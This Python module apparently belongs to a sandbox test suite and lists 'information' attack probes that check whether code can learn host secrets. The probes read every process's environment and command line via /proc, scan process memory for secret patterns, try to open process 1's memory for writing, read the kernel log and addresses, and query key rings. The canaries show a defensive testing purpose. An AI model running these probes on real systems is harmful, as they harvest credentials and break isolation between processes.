"""Attacks that learn what the host's processes know."""

from __future__ import annotations

from agentenv.tools.sandbox.attacks.attack import Kind, cells, program, shell

_KIND: Kind = "information"

_MEMORY = """
import os, re
def search(pid):
    try:
        for line in open(f"/proc/{pid}/maps"):
            if "rw" not in line:
                continue
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(low)
                data = memory.read(min(high - low, 8 << 20))
            found = re.search(rb"<<secret_head>>[0-9a-f]{20,24}", data)
            if found:
                print(found[0].decode())
                return
    except (OSError, ValueError, OverflowError):
        pass
"""

ATTACKS = (
    program(
        "prints its own environment",
        _KIND,
        """
import os
print(dict(os.environ))
try:
    print(open("/proc/self/environ").read())
except OSError:
    pass
""",
    ),
    program(
        "reads the environment of its parents and of process 1",
        _KIND,
        """
import os
for pid in (1, os.getppid(), os.getpgrp(), os.getsid(0), 2, 3):
    try:
        print(open(f"/proc/{pid}/environ").read())
    except OSError:
        pass
""",
    ),
    program(
        "reads the environment of every process",
        _KIND,
        """
import glob
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
    try:
        print([part for part in open(path, errors="replace").read().split("\\0") if "CANARY" in part])
    except OSError:
        pass
""",
    ),
    program(
        "reads the command line of every process",
        _KIND,
        """
import glob
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, errors="replace").read()
        if "<<secret_head>>" in text:
            print(text[-60:])
    except OSError:
        pass
""",
        needs="process table",
    ),
    program("searches the memory of process 1", _KIND, f"{_MEMORY}\nfor pid in (1, os.getppid()):\n    search(pid)"),
    program(
        "searches the memory of a process of the host",
        _KIND,
        f"{_MEMORY}\nsearch(<<sleeper_pid>>)\nsearch(<<host_pid>>)",
    ),
    program("searches its own memory", _KIND, f"{_MEMORY}\nsearch('self')"),
    program(
        "writes to the memory of process 1",
        _KIND,
        """
import os
for pid in {1, os.getppid()} - {os.getpid()}:
    try:
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
        print(f"GOT the memory of {pid} open for writing")
    except OSError:
        pass
""",
    ),
    program(
        "reads the kernel's log and addresses",
        _KIND,
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(4096)
if libc.klogctl(3, room, 4096) > 0:
    print("GOT the kernel's log")
try:
    if any(int(line.split()[0], 16) for line in open("/proc/kallsyms")):
        print("GOT addresses of the kernel")
except (OSError, ValueError):
    pass
""",
    ),
    program(
        "lists keys of the host's users",
        _KIND,
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
number = {"x86_64": 250, "aarch64": 219}.get(os.uname().machine, -1)
for ring in (-3, -4, -5):
    if libc.syscall(number, 0, ring, 1) > 0:
        print("GOT a key ring")
""",
    ),
    shell(
        "asks the shell for everything",
        _KIND,
        "env; set; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'",
        needs="process table",
    ),
    cells(
        "looks through the objects of its interpreter",
        _KIND,
        [
            """
import gc, os, sys
for found in gc.get_objects():
    if isinstance(found, dict) and "AGENTENV_CHECK_CANARY" in found:
        print(found["AGENTENV_CHECK_CANARY"])
frame = sys._getframe()
while frame:
    for value in list(frame.f_globals.values()) + list(frame.f_locals.values()):
        if type(value) is str and value.startswith("<<secret_head>>"):
            print(value)
    frame = frame.f_back
""",
            "print(os.environ.get('AGENTENV_CHECK_CANARY'))",
        ],
    ),
)
